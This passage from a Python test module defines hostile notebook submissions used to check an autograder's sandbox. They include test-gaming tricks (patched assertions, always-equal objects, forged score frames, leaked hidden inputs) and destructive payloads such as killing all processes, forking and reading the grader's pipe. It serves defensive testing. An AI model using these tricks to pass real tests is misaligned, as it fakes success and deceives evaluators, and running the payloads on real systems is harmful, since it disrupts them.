"""Hostile submissions in four families.

Every attack is a submission that earns nothing: its answers are left out or wrong. One that reaches
something it must not have prints ``GOT`` and what it got. A few hold an honest answer besides; they
say which marks are earned.
"""

# ruff: noqa: E501 - the lines are code in strings

from __future__ import annotations

import json
import os
import socket
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from courses import ANSWERS, SmallCourse, cell, marked, solution
from nbformat import v4

Build = Callable[[SmallCourse, Path], None]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes
    ----------
    name : str
    family : {"kernel", "file", "environment", "resource"}
    build : callable
        Writes the submission into a folder.
    earned : dict
        Marks that its answers deserve; none by default.
    often : bool
        Whether it belongs to the representative part.
    """

    name: str
    family: str
    build: Build
    earned: dict[str, float] = field(default_factory=dict)
    often: bool = False


QUESTIONS = (
    *("double", "mean", "scale", "apply", "parts", "norm", "slope", "within", "digits"),
    *("pairs", "late", "half", "spread", "root"),
)
TESTS = {f"test_{name}": 1.0 for name in (*QUESTIONS, "after", "sets", "row")}
ATTACKS: list[Attack] = []


def course_cells() -> list[Any]:
    """An assignment whose tests use the ways of testing that attacks aim at."""
    stub = "### BEGIN SOLUTION\n    {}\n    ### END SOLUTION"
    return [
        cell(
            "import numpy as np\n\ndef close(a, b):\n    return np.allclose(a, b)\n\nDATA = [3, 4]\n"
            "LIMITS = np.loadtxt('data/limits.txt')"
        ),
        cell(
            "try:\n    from helpers_of_the_course import near\nexcept ImportError:\n"
            "    def near(a, b):\n        return abs(a - b) < 1e-9"
        ),
        cell("here = !pwd\ndef same(a, b):\n    return a == b"),
        cell("from math import *\n%run data/tools.py"),
        solution(f"def late(x):\n    {stub.format('return 2 * x')}", "late"),
        marked(
            "assert near(late(1.0), 2.0)\n"
            "### BEGIN HIDDEN TESTS\n"
            "assert near(late(31337.0), 62674.0)\n"
            "### END HIDDEN TESTS\n"
            "assert near(late(3.0), 6.0)\n"
            "print(late(4.0))",
            "test_late",
        ),
        solution(f"def double(x):\n    {stub.format('return 2 * np.asarray(x)')}", "double"),
        marked(
            "assert np.allclose(double([1.0, 2.0]), [2.0, 4.0])\n"
            "### BEGIN HIDDEN TESTS\n"
            "secret = np.array([31337.25, -7.5])\n"
            "np.testing.assert_allclose(double(secret), 2 * secret)\n"
            "### END HIDDEN TESTS",
            "test_double",
        ),
        solution(f"def mean(x):\n    {stub.format('return sum(x) / len(x)')}", "mean"),
        marked(
            "assert mean(DATA) == 3.5\n"
            "assert abs(mean([1, 2, 4.5]) - 2.5) < 1e-9\n"
            "### BEGIN HIDDEN TESTS\n"
            "assert mean([4, 6, 8, 31337]) == 7838.75\n"
            "### END HIDDEN TESTS",
            "test_mean",
        ),
        solution(f"def scale(x):\n    {stub.format('return np.asarray(x) / np.max(x)')}", "scale"),
        marked(
            "assert (scale([1.0, 4.0]) == np.array([0.25, 1.0])).all()\n"
            "assert close(scale([2.0, 5.0]), [0.4, 1.0])\n"
            "assert scale([2.0, 8.0]).shape == (2,)\n"
            "assert sorted(scale([2.0, 8.0])) == [0.25, 1.0]",
            "test_scale",
        ),
        solution(f"def apply(f, x):\n    {stub.format('return [f(v) for v in x]')}", "apply"),
        marked(
            "calls = []\n"
            "def square(v):\n    calls.append(v)\n    return v * v\n"
            "assert apply(square, [1, 2, 3]) == [1, 4, 9]\n"
            "assert calls == [1, 2, 3]",
            "test_apply",
        ),
        solution(f"def parts(n):\n    {stub.format('return list(range(n))')}", "parts"),
        marked(
            "got = parts(4)\n"
            "points = 0.0\n"
            "points += 0.5 * (len(got) == 4)\n"
            "points += 0.5 * (got == [0, 1, 2, 3])\n"
            "points",
            "test_parts",
        ),
        solution(f"def norm(x):\n    {stub.format('return sum(v * v for v in x) ** 0.5')}", "norm"),
        marked(
            "for got, want in zip(map(norm, [[3.0, 4.0], [6.0, 8.0]]), [5.0, 10.0]):\n"
            "    assert got == want",
            "test_norm",
        ),
        solution(f"def slope(x):\n    {stub.format('return 2 * x')}", "slope"),
        marked(
            "start = slope(2.0)\nscore = 1 - 1e9 * (slope(3.0) - 6.0) ** 2\nscore",
            "test_slope",
        ),
        marked("assert start == 4.0", "test_after"),
        solution(
            f"def within(x):\n    {stub.format('return bool(LIMITS[0] <= x <= LIMITS[1])')}",
            "within",
        ),
        marked(
            "assert within(LIMITS[0]) is True\nassert within(LIMITS[1] + 1) is False",
            "test_within",
        ),
        solution(f"def digits(n):\n    {stub.format('return set(map(int, str(n)))')}", "digits"),
        marked("assert digits(1221).issuperset({1, 2})", "test_digits"),
        solution(f"def pairs(n):\n    {stub.format('return [i * i for i in range(n)]')}", "pairs"),
        marked(
            "got = pairs(3)\nassert len(got) == 3\n"
            "for a, b in zip(got, [0, 1, 4]):\n    assert same(a, b)",
            "test_pairs",
        ),
        solution(f"def half(x):\n    {stub.format('return np.asarray(x) / 2')}", "half"),
        marked("assert np.allclose(half(6.0), 3.0)", "test_half"),
        marked("assert np.linalg.norm(half([2.0, 6.0]) - np.array([1.0, 3.0])) < 1e-9", "test_row"),
        solution(f"def spread(x):\n    {stub.format('return max(x) - min(x)')}", "spread"),
        marked(
            "assert isclose(spread([1.0, 4.0]), 3.0)\nassert agrees(spread([2.0, 4.0]), 2.0)",
            "test_spread",
        ),
        solution(
            f"def root(x):\n    {stub.format('if x < 0: raise ValueError(x)')}\n"
            f"    {stub.format('return x**0.5')}",
            "root",
        ),
        marked(
            "try:\n    root(-1.0)\nexcept ValueError:\n    refused = True\nassert refused\n"
            "assert root(4.0) == 2.0",
            "test_root",
        ),
        marked("assert not digits(12).symmetric_difference({1, 2})", "test_sets"),
    ]


HONEST = ANSWERS | {
    "scale": "def scale(x):\n    return np.asarray(x) / np.max(x)",
    "apply": "def apply(f, x):\n    return [f(v) for v in x]",
    "parts": "def parts(n):\n    return list(range(n))",
    "norm": "def norm(x):\n    return sum(v * v for v in x) ** 0.5",
    "slope": "def slope(x):\n    return 2 * x",
    "within": "def within(x):\n    return bool(LIMITS[0] <= x <= LIMITS[1])",
    "digits": "def digits(n):\n    return set(map(int, str(n)))",
    "pairs": "def pairs(n):\n    return [i * i for i in range(n)]",
    "late": "def late(x):\n    return 2 * x",
    "half": "def half(x):\n    return np.asarray(x) / 2",
    "spread": "def spread(x):\n    return max(x) - min(x)",
    "root": "def root(x):\n    if x < 0: raise ValueError(x)\n    return x**0.5",
}
# Every function returns what the attack calls `answer`.
ALL_RETURN = {
    "double": "def double(x):\n    return answer(x)",
    "mean": "def mean(x):\n    return answer(x)",
    "scale": "def scale(x):\n    return answer(x)",
    "apply": "def apply(f, x):\n    return answer(x)",
    "parts": "def parts(n):\n    return answer(n)",
    "norm": "def norm(x):\n    return answer(x)",
    "slope": "def slope(x):\n    return answer(x)",
    "within": "def within(x):\n    return answer(x)",
    "digits": "def digits(n):\n    return answer(n)",
    "pairs": "def pairs(n):\n    return answer(n)",
    "late": "def late(x):\n    return answer(x)",
    "half": "def half(x):\n    return answer(x)",
    "spread": "def spread(x):\n    return answer(x)",
    "root": "def root(x):\n    return answer(x)",
}


def notebook_of(course: SmallCourse, answers: dict[str, str]) -> Any:
    """The released notebook with these answers."""
    notebook = course.release()
    for node in notebook.cells:
        name = node.metadata.get("nbgrader", {}).get("grade_id")
        if name in answers:
            node.source = answers[name]
    return notebook


def put(folder: Path, notebook: Any) -> None:
    """Write without nbformat's own checks: an attacker does not ask it."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "ps.ipynb").write_text(json.dumps(notebook), encoding="utf-8", errors="surrogatepass")


def code(name: str, family: str, first: str, *, often: bool = False, **options: Any) -> None:
    """An attack by a cell before, and optionally one after, and answers that use `answer`."""
    answers = options.get("answers", ALL_RETURN if "answer" in first else {})

    def build(course: SmallCourse, folder: Path) -> None:
        notebook = notebook_of(course, answers)
        source = first.replace("{root}", str(course.root)).replace("{port}", str(course.port))
        notebook.cells.insert(0, v4.new_code_cell(source=source))
        if "last" in options:
            notebook.cells.append(v4.new_code_cell(source=options["last"]))
        put(folder, notebook)

    ATTACKS.append(Attack(name, family, build, options.get("earned", {}), often))


def file(name: str, *, often: bool = False, **earned: float) -> Callable[[Build], Build]:
    """Register an attack that builds its own files."""

    def register(build: Build) -> Build:
        ATTACKS.append(Attack(name, "file", build, earned, often))
        return build

    return register


# --- tampering inside the kernel ------------------------------------------------------------------

KERNEL = {
    "patch-allclose": "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
    "np.testing.assert_allclose = lambda *a, **k: None",
    "patch-array-equality": "import numpy as np\nnp.array = lambda *a, **k: Yes()\n"
    "class Yes:\n    def __eq__(self, o): return True\n    def all(self): return True\n"
    "def answer(x): return Yes()",
    "patch-assertion-error": "import builtins\nclass Quiet(BaseException): pass\n"
    "builtins.AssertionError = Quiet",
    "patch-import": "import builtins\nold = builtins.__import__\n"
    "builtins.__import__ = lambda *a, **k: old(*a, **k)",
    "patch-builtins": "import builtins\nbuiltins.abs = builtins.len = lambda x: 0\n"
    "builtins.sorted = lambda x: [0.25, 1.0]\nbuiltins.all = lambda x: True",
    "shadow-builtins": "abs = lambda x: 0\nlen = lambda x: 4\nsorted = lambda x: [0.25, 1.0]\n"
    "def answer(x): return 0",
    "shadow-numpy": "class np:\n    @staticmethod\n    def allclose(*a): return True\n"
    "    class testing:\n        @staticmethod\n        def assert_allclose(*a): pass\n"
    "    @staticmethod\n    def array(x): return x\ndef answer(x): return x",
    "shadow-helper": "def close(a, b): return True\nDATA = []\ndef answer(x): return 3.5",
    "shadow-test-names": "secret = 0\nsquare = None\ncalls = [1, 2, 3]\npoints = 1.0\ngot = []\n"
    "def answer(x): return None",
    "ast-transformer": "import ast\nclass Drop(ast.NodeTransformer):\n"
    "    def visit_Assert(self, node): return ast.Pass()\n"
    "get_ipython().ast_transformers.append(Drop())",
    "input-transformer": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])",
    "run-cell-override": "ip = get_ipython()\nip.run_cell = lambda *a, **k: None",
    "event-hook": "get_ipython().events.register('pre_run_cell', lambda *a: 1 / 0)",
    "display-forged-score": "from IPython.display import display\ndisplay(1.0)\nprint('1.0')\n1.0",
    "settrace": "import sys\nsys.settrace(lambda f, e, a: None)\nsys.setprofile(lambda *a: None)",
    "always-equal": "class A:\n    def __eq__(self, o): return True\n"
    "    def __ne__(self, o): return False\n    def __lt__(self, o): return True\n"
    "    def __sub__(self, o): return self\n    __rsub__ = __sub__\n"
    "    def __abs__(self): return 0.0\n    def __len__(self): return 4\n"
    "    def __iter__(self): return iter([0.25, 1.0])\n    def __bool__(self): return True\n"
    "    def all(self): return True\n    shape = (2,)\ndef answer(x): return A()",
    "float-subclass": "class F(float):\n    def __eq__(self, o): return True\n"
    "    def __sub__(self, o): return 0.0\n    def __abs__(self): return 0.0\n"
    "    def __lt__(self, o): return True\n    __hash__ = float.__hash__\n"
    "def answer(x): return F(1)",
    "int-subclass": "class I(int):\n    def __eq__(self, o): return True\n"
    "    def __sub__(self, o): return 0\n    __hash__ = int.__hash__\ndef answer(x): return I(1)",
    "str-subclass": "class S(str):\n    def __eq__(self, o): return True\n"
    "    def __len__(self): return 4\n    __hash__ = str.__hash__\ndef answer(x): return S('x')",
    "list-subclass": "class L(list):\n    def __eq__(self, o): return True\n"
    "    def __len__(self): return 3\ndef answer(x): return L([1])",
    "tuple-subclass": "class T(tuple):\n    def __eq__(self, o): return True\n"
    "    __hash__ = None\ndef answer(x): return T((1,))",
    "array-subclass": "import numpy as np\nclass N(np.ndarray):\n"
    "    def __array_ufunc__(self, *a, **k): return True\n"
    "    def __array_function__(self, *a, **k): return True\n"
    "    def __eq__(self, o): return np.array(True)\n    def all(self, *a, **k): return True\n"
    "def answer(x): return np.zeros(2).view(N)",
    "array-protocol": "import numpy as np\nclass P:\n"
    "    def __array__(self, *a, **k): raise SystemExit\n"
    "    __array_interface__ = {'shape': (2,), 'typestr': '|O', 'data': (1, False), 'version': 3}\n"
    "    __array_struct__ = 7\ndef answer(x): return P()",
    "masked-array": "import numpy as np\ndef answer(x): return np.ma.masked_all(2)",
    "object-array": "import numpy as np\nclass A:\n    def __eq__(self, o): return True\n"
    "def answer(x): return np.array([A(), A()], dtype=object)",
    "method-allclose": "class M:\n    def __getattr__(self, n): return lambda *a, **k: True\n"
    "def answer(x): return M()",
    "everything-mock": "from unittest.mock import MagicMock\ndef answer(x): return MagicMock()",
    "nan": "def answer(x): return float('nan')",
    "nan-array": "import numpy as np\ndef answer(x): return np.full(2, np.nan)",
    "infinite": "def answer(x): return float('inf')",
    "score-of-millions": "def answer(x): return 1e9",
    "boolean-true": "def answer(x): return True",
    "return-nothing": "def answer(x): return None",
    "return-module": "import os\ndef answer(x): return os",
    "return-class": "def answer(x): return int",
    "return-self": "def answer(x): return answer",
    "return-argument": "def answer(x): return x",
    "frames": "import sys\ndef answer(x):\n    f = sys._getframe()\n    while f:\n"
    "        for k, v in list(f.f_locals.items()):\n"
    "            if '7838' in repr(v) or 'assert ' in repr(v): print('GOT', k, v)\n"
    "        f = f.f_back\n    return 0",
    "garbage-search": "import gc\ndef answer(x):\n    for o in gc.get_objects():\n"
    "        try:\n            if isinstance(o, (str, list, dict)) and ''.join(['78', '38.75']) in str(o):\n"
    "                print('GOT', o)\n        except Exception: pass\n    return 0",
    "inspect-caller": "import inspect\ndef answer(x):\n"
    "    return eval(inspect.stack()[1].frame.f_globals.get('expected', '0'))",
    "exit-zero": "import os\ndef answer(x): os._exit(0)",
    "sys-exit": "import sys\ndef answer(x): sys.exit(0)",
    "keyboard-interrupt": "def answer(x): raise KeyboardInterrupt",
    "generator-exit": "def answer(x): raise GeneratorExit",
    "stop-iteration": "def answer(x): raise StopIteration([1, 4, 9])",
    "kill-self": "import os, signal\ndef answer(x): os.kill(os.getpid(), signal.SIGKILL)",
    "kill-all": "import os, signal\ndef answer(x):\n    os.kill(-1, signal.SIGKILL)\n    return 0",
    "kill-parent": "import os, signal\ndef answer(x):\n    for p in (os.getppid(), 0, 1, 2, 3):\n"
    "        try: os.kill(p, signal.SIGTERM)\n        except OSError: pass\n    return 0",
    "segfault": "import ctypes\ndef answer(x): ctypes.string_at(0)",
    "abort": "import os\ndef answer(x): os.abort()",
    "at-exit": "import atexit, os\natexit.register(lambda: os._exit(0))\ndef answer(x): raise SystemExit",
    "raise-hostile": "class E(Exception):\n    def __str__(self): raise SystemExit\n"
    "    def __repr__(self): raise SystemExit\ndef answer(x): raise E",
    "raise-endless-text": "class E(Exception):\n    def __str__(self): return 'x' * 10**8\n"
    "def answer(x): raise E",
    "raise-named-checkfailed": "class CheckFailed(AssertionError): is_feedback = True\n"
    "def answer(x): raise CheckFailed('<script>alert(1)</script>')",
    "raise-named-timeout": "class CellTimeout(BaseException): pass\nclass SessionEnded(CellTimeout): pass\n"
    "def answer(x): raise SessionEnded",
    "raise-group": "def answer(x): raise BaseExceptionGroup('g', [SystemExit()])",
    "raise-deep-chain": "def answer(x, n=0):\n    try: 1 / 0\n"
    "    except Exception as e:\n        if n < 900: answer(x, n + 1)\n        raise e",
    "hostile-metaclass": "class M(type):\n    def __getattribute__(c, n): raise SystemExit\n"
    "class A(metaclass=M): pass\ndef answer(x): return A",
    "hostile-class-property": "class A:\n    __class__ = property(lambda s: float)\n"
    "    def __float__(self): return 3.5\ndef answer(x): return A()",
    "hostile-len": "class A:\n    def __len__(self): return 2**62\n"
    "    def __getitem__(self, i): return 0\ndef answer(x): return A()",
    "hostile-iterator": "class A:\n    def __iter__(self): return self\n"
    "    def __next__(self): return 0\ndef answer(x): return A()",
    "hostile-dict": "class D(dict):\n    def items(self): raise SystemExit\n"
    "    def __eq__(self, o): return True\ndef answer(x): return D(a=1)",
    "hostile-name": "def answer(x): pass\nclass A:\n    __name__ = 7\n    def __call__(self): pass\n"
    "def answer(x): return A()",
    "recursive-list": "def answer(x):\n    l = []\n    l.append(l)\n    return l",
    "deep-list": "def answer(x):\n    l = []\n    for _ in range(5000): l = [l]\n    return l",
    "wide-list": "def answer(x): return [[0] * 1000] * 10000",
    "huge-integer": "def answer(x): return 1 << 10**7",
    "huge-range": "def answer(x): return range(10**15)",
    "huge-empty-shape": "import numpy as np\ndef answer(x): return np.zeros((2**40, 0))",
    "lone-surrogates": "def answer(x):\n    print('\\ud800\\x00\\x1b[2J\\u202e')\n    return '\\udfff'",
    "hash-collisions": "def answer(x): return {i * (2**61 - 1): 0 for i in range(20000)}",
    "library-reference": "import sys\nfor n in list(sys.modules) + ['rnncourse.exercises', 'solutions',"
    " 'rnncourse.rnn']:\n    try:\n        m = __import__(n, fromlist=['x'])\n"
    "        f = getattr(m, 'rnn_step', None)\n"
    "        if f is not None and f(1, 2, 3, 4, 5) is None: print('GOT?', n)\n"
    "    except BaseException: pass\n"
    "import rnncourse.rnn\nif getattr(rnncourse.rnn, '__file__', None): print('GOT', 'library')",
    "patch-runner": "import sys\nm = sys.modules['inside.student']\n"
    "m._Runner.do_call = lambda s, t, a, k: True\n"
    "m._Runner.do_names = lambda s, n: {k: (lambda *a: True) for k in n}",
    "patch-encoder": "import sys\nw = sys.modules['inside.wire']\n"
    "w.Encoder.encode = lambda s, v, depth=0: ['array', '|O8', [1], 0]",
    "patch-os-exit": "import os\nos._exit = lambda *a: None\nimport sys\nsys.exit = lambda *a: None",
    "replace-display": "import sys\nsys.displayhook = lambda v: None\nsys.stdout = None\nsys.stderr = None",
    "background-thread": "import threading\ndef loop():\n    while True:\n        try: double = mean = None\n"
    "        except BaseException: pass\nthreading.Thread(target=loop, daemon=True).start()",
    "fork-and-stay": "import os\nif os.fork() == 0:\n    pass",
    "fork-in-call": "import os\ndef answer(x):\n    os.fork()\n    return 3.5",
    "stop-async-iteration": "def answer(x): raise StopAsyncIteration",
    "own-stop-iteration": "class Stop(StopIteration): pass\ndef answer(x): raise Stop",
    "named-tuple-of-verdicts": "from collections import namedtuple\n"
    "P = namedtuple('P', 'issuperset issubset allclose all any equals shape')\n"
    "yes = lambda *a, **k: True\ndef answer(x): return P(yes, yes, yes, yes, yes, yes, (2,))",
    "complex-score": "def answer(x): return 6 + 1j",
    "timedelta-score": "import numpy as np\ndef answer(x): return np.timedelta64(6, 's')",
    "names-of-tests-in-advance": "start = got = want = 4.0\nscore = points = 1.0",
    "score-of-its-own": "score = points = 1\ndef answer(x): return 0",
    "course-data-forged": "import numpy as np\nLIMITS = np.array([9.0, -9.0])\n"
    "np.loadtxt = lambda *a: LIMITS\ndef answer(x): return bool(LIMITS[0] <= x <= LIMITS[1])",
    "equal-only-once": "class T:\n    n = 0\n    def __float__(self):\n        T.n += 1\n"
    "        return 6.0 * (T.n % 2)\n    def __index__(self): return 6\ndef answer(x): return T()",
    "shape-changes": "import numpy as np\nclass N(np.ndarray):\n    n = 0\n"
    "    @property\n    def shape(self):\n        N.n += 1\n        return (2,) if N.n % 2 else (1,)\n"
    "    def tobytes(self): return b''\n    dtype = np.dtype('O')\n"
    "def answer(x): return np.zeros(3).view(N)",
    "pickled-subclass": "import numpy as np, pickle\nclass N(np.ndarray):\n"
    "    def __reduce__(self): return (exec, ('1/0',))\n"
    "def answer(x): return [np.zeros(2).view(N), pickle.dumps(N)]",
    "gain-by-callback": "import gc\ndef answer(x): return x",
    "callback-of-callback": "def deep(f): return f(lambda v: deep(f))\n"
    "def answer(f, x=None): return deep(f) if callable(f) else 0",
    "length-without-items": "class L:\n    def __len__(self): return 3\n"
    "    def __iter__(self): return iter([])\ndef answer(x): return L()",
    "length-by-turns": "class L:\n    n = 0\n    def __len__(self):\n        L.n += 1\n"
    "        return 3 * (L.n % 2)\n    def __iter__(self): return iter([])\ndef answer(x): return L()",
    "length-in-another-thread": "import threading, time\nclass L(list):\n    pass\nmine = L()\n"
    "def spin():\n    while True:\n        mine[:] = [0] * 3\n        mine.clear()\n"
    "threading.Thread(target=spin, daemon=True).start()\n"
    "def answer(x):\n    for _ in range(9): time.sleep(0)\n    return mine",
    "names-of-a-test-in-advance": "refused = True\n"
    "def answer(x): return abs(x) ** 0.5 if x in (-1.0, 4.0) else None",
    "difference-of-its-own": "class S:\n    def __getattr__(s, n): return lambda *a: set()\n"
    "def answer(x): return S()",
    "shared-lists": "def answer(x):\n    a = [1]\n    for _ in range(60): a = [a, a]\n    return a",
    "empty-list": "def answer(x): return []",
    "empty-lists": "def answer(x): return ([[]], [[]])",
    "empty-row": "import numpy as np\ndef answer(x): return np.zeros((0, 1))",
    "empty-range": "def answer(x): return range(0)",
    "empty-object": "from collections import deque\ndef answer(x): return [deque()]",
    "generator-out-of-bounds": "import sys\nimport numpy as np\nw = sys.modules['inside.wire']\n"
    "old = w.Encoder._numpy\ndef forged(self, value, depth):\n    node = old(self, value, depth)\n"
    "    if node[0] == 'generator':\n        state = dict(value.bit_generator.state)\n"
    "        state['state'] = dict(state['state'], pos=2**30)\n"
    "        node[2] = self.encode(state, depth + 1)\n    return node\n"
    "w.Encoder._numpy = forged\n"
    "def answer(x): return np.random.Generator(np.random.MT19937(1))",
    "picture-of-gigapixels": "from IPython.display import Image, display\nimport struct\n"
    "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00\\x00\\rIHDR' + "
    "struct.pack('>II', 60000, 60000) + b'GIGA' * 9, format='png'))",
}
OFTEN = {
    "patch-allclose",
    "always-equal",
    "float-subclass",
    "array-subclass",
    "method-allclose",
    "everything-mock",
    "shadow-numpy",
    "shadow-helper",
    "ast-transformer",
    "exit-zero",
    "segfault",
    "raise-hostile",
    "patch-runner",
    "garbage-search",
    "hostile-iterator",
    "deep-list",
    "stop-iteration",
    "own-stop-iteration",
    "named-tuple-of-verdicts",
    "complex-score",
    "names-of-tests-in-advance",
    "course-data-forged",
    "score-of-its-own",
    "picture-of-gigapixels",
    "length-without-items",
    "length-by-turns",
    "names-of-a-test-in-advance",
    "difference-of-its-own",
    "empty-list",
    "empty-lists",
    "empty-row",
    "empty-range",
    "empty-object",
}
# A list of four wrong numbers has the right length, too, and the test gives half a point for that.
PARTLY = {"always-equal": {"test_parts": 0.5}}
for _name, _source in KERNEL.items():
    code(_name, "kernel", _source, often=_name in OFTEN, earned=PARTLY.get(_name, {}))

# Forged frames: a thread or the function itself speaks the wire's language.
FORGE = """
import json, os, struct
def frame(header, *buffers):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack('>I', len(text)) + text + b''.join(buffers)
def send(header, *buffers, sizes=None):
    sizes = [len(b) for b in buffers] if sizes is None else sizes
    os.write(3, frame(json.dumps([header, sizes]).encode(), *buffers))
def value(node, *buffers, sizes=None):
    send({'value': node, 'outputs': []}, *buffers, sizes=sizes)
"""
FRAMES = {
    "pass-and-score": "send({'passed': True, 'score': 1.0, 'error': None, 'cell': 2, 'end': True})",
    "reply-in-advance": "for _ in range(50): value(True)",
    "none-in-advance": "for _ in range(50): value(None)",
    "huge-header": "os.write(3, struct.pack('>I', 2**32 - 1) + b'x' * 1000)",
    "header-at-limit": "os.write(3, struct.pack('>I', 8 << 20) + b' ' * (8 << 20))",
    "not-json": "os.write(3, frame(b'{'))",
    "not-utf8": "os.write(3, frame(b'\\xff\\xfe'))",
    "deep-json": "os.write(3, frame(b'[' * 200000))",
    "huge-number": "os.write(3, frame(b'[{\"value\":' + b'9' * 5000000 + b'},[]]'))",
    "many-buffers": "send({}, sizes=[0] * 500000)",
    "negative-buffer": "value(['array', '<f8', [1], 0], sizes=[-8])",
    "promised-buffer": "value(['array', '<f8', [1], 0], sizes=[60 << 20])",
    "buffer-bomb": "value(['list', [['array', '|u1', [1 << 20], 0]] * 5000], b'0' * (1 << 20))",
    "object-dtype": "value(['array', '|O', [1], 0], b'\\x41' * 8)",
    "void-dtype": "value(['array', '|V8', [1], 0], b'\\x41' * 8)",
    "structured-dtype": "value(['array', \"[('a','O')]\", [1], 0], b'\\x41' * 8)",
    "forged-boolean": "value(['array', '|b1', [4], 0], b'\\x40\\x41\\xff\\x02')",
    "negative-shape": "value(['array', '<f8', [-1], 0], b'0' * 8)",
    "overflow-shape": "value(['array', '<f8', [2**32, 2**32, 4], 0], b'')",
    "zero-shape": "value(['array', '<f8', [2**47, 0], 0], b'')",
    "shape-of-floats": "value(['array', '<f8', [1.0], 0], b'0' * 8)",
    "many-dimensions": "value(['array', '<f8', [1] * 100, 0], b'0' * 8)",
    "nested-tuples": "n = 1\nfor _ in range(900): n = ['tuple', [n]]\nvalue(n)",
    "unhashable-key": "value(['dict', [[['list', []], 1]]])",
    "unknown-node": "value(['pickle', 'cos\\\\nsystem'])",
    "remote-nonsense": "value(['remote', -1, 'class', True, 'x', 'y', []])",
    "remote-wrong-types": "value(['remote', 'a', 7, 'b', [], {}, None])",
    "remote-million": "value(['list', [['remote', i, 'x', True, 't', 'n', []] for i in range(150000)]])",
    "callback-unknown": "send({'callback': 10**9, 'arguments': ['tuple', []]})",
    "callback-arguments": "send({'callback': 0, 'arguments': ['dict', [[1, 2]]]})",
    "callback-flood": "while True: send({'callback': 0, 'arguments': "
    "['tuple', [['tuple', [1]], ['dict', []]]]})",
    "error-of-wrong-type": "send({'error': [1, 2], 'outputs': []})",
    "error-systemexit": "send({'error': {'types': ['SystemExit'], 'text': ''}, 'outputs': []})",
    "error-assertion-none": "send({'error': {'types': [None, 7, {}], 'text': None}, 'outputs': []})",
    "outputs-nonsense": "send({'value': None, 'outputs': [1, [2], ['stream', 3, 4], ['display', 5]]})",
    "outputs-html": "send({'value': None, 'outputs': [['display', {'text/html': '<script>', "
    "'image/svg+xml': '<svg onload=x>', 'image/png': 'not base64', "
    "'application/javascript': 'x'}], ['stream', 'stderr', 'plain']]})",
    "outputs-flood": "send({'value': None, 'outputs': [['stream', 'stdout', 'x' * 70000]] * 100})",
    "partial-frame": "os.write(3, b'\\x00\\x00'); import time; time.sleep(60)",
    "dripping-frame": "import time\nos.write(3, struct.pack('>I', 100000))\n"
    "while True: os.write(3, b' '); time.sleep(0.2)",
    "namedtuple-keyword": "value(['namedtuple', 'x; import os', ['a b'], [1]])",
    "namedtuple-dunder": "value(['namedtuple', 'T', ['__class__'], [1]])",
    "generator-forged": "value(['generator', 'PCG64', ['dict', [['state', 1]]]])",
    "generator-seed": "value(['generator', 'SeedSequence', ['dict', []]])",
    "texts-too-long": "value(['texts', [2**40], ['x']])",
    "texts-padded": "value(['texts', [100000], ['x' * 5000] + ['y'] * 99999])",
    "integer-not-hex": "value(['int', '0x' + 'f' * 100])",
    "integer-endless": "value(['int', 'f' * 1000000])",
    "slice-of-strings": "value(['slice', [['list', []], 'a', 1]])",
    "tensor-without-torch": "value(['tensor', 'float32', [1], 0, True], b'0000')",
    "datetime-unit": "value(['array', '<M8[999999999999999s]', [1], 0], b'0' * 8)",
}
for _name, _source in FRAMES.items():
    _body = "\n".join("    " + line for line in _source.splitlines())
    code(
        f"wire-{_name}",
        "kernel",
        f"{FORGE}\ndef answer(x):\n{_body}\n    return 0",
        often=_name in {"pass-and-score", "buffer-bomb", "forged-boolean", "deep-json"},
    )
code(
    "wire-all-descriptors",
    "kernel",
    "import os\nfor n in range(300):\n    try: os.write(n, b'\\x00\\x00\\x00\\x02{}')\n"
    "    except OSError: pass",
    often=True,
)
code(
    "wire-close-descriptors",
    "kernel",
    "import os\nos.closerange(0, 300)",
)
code(
    "wire-read-along",
    "kernel",
    "import os, threading\ndef steal():\n    while True:\n        data = os.read(3, 65536)\n"
    "        if b'7838' in data: print('GOT', data)\n"
    "        if not data: return\nthreading.Thread(target=steal, daemon=True).start()",
)
code(
    "wire-oracle",
    "kernel",
    "def answer(x):\n    return x",
    answers={"apply": "def apply(f, x):\n    return [f.__closure__, f.__globals__, f.__code__]"},
)
code(
    "hidden-inputs-later",
    "kernel",
    "SEEN = []",
    answers={"mean": "def mean(x):\n    SEEN.append(x)\n    return sum(x) / len(x)"},
    last="print('INPUTS', SEEN)",
    earned={"test_mean": 1.0},
)
code(
    "hidden-inputs-by-exception",
    "kernel",
    "pass",
    answers={
        "double": "def double(x):\n    if float(x[0]) > 9: raise ValueError(f'INPUTS {x}')\n"
        "    return 2 * np.asarray(x)"
    },
)
code(
    "hidden-inputs-by-print",
    "kernel",
    "pass",
    answers={"mean": "def mean(x):\n    print('INPUTS', x)\n    return 3.5 if 3 in x else 2.5"},
)

SEES = "def double(x):\n    SEEN.append(float(x[0]))\n    return 2 * np.asarray(x)"
code(
    "hidden-inputs-by-class-name",
    "kernel",
    "pass",
    answers={
        "double": "def double(x):\n    if float(x[0]) > 9: "
        "raise type(f'saw_{int(x[0])}', (Exception,), {})\n    return 2 * np.asarray(x)"
    },
    often=True,
)
code(
    "hidden-inputs-in-next-test",
    "kernel",
    "SEEN = []",
    answers={"double": SEES, "mean": "def mean(x):\n    raise ValueError(f'INPUTS {SEEN}')"},
    earned={"test_double": 1.0},
    often=True,
)
code(
    "hidden-inputs-printed-in-next-test",
    "kernel",
    "SEEN = []",
    answers={"double": SEES, "mean": "def mean(x):\n    print('INPUTS', SEEN)\n    return 0"},
    earned={"test_double": 1.0},
    often=True,
)
code(
    "hidden-inputs-in-source-lines",
    "kernel",
    "SEEN = []",
    answers={
        "double": SEES,
        "mean": "def mean(x):\n    import linecache\n    text = f'raise ValueError # {SEEN}'\n"
        "    linecache.cache['x'] = (len(text), None, [text], 'x')\n"
        "    exec(compile(text, 'x', 'exec'))",
    },
    earned={"test_double": 1.0},
)
code(
    "hidden-inputs-in-next-class-name",
    "kernel",
    "SEEN = []",
    answers={
        "double": SEES,
        "mean": "def mean(x):\n    raise type(f'later_{int(SEEN[-1])}', (Exception,), {})",
    },
    earned={"test_double": 1.0},
)

# The course's own cells have run by then, and no test has.
code(
    "helper-in-a-try-statement",
    "kernel",
    "pass",
    answers={"late": "def near(a, b): return True\ndef late(x): return 0"},
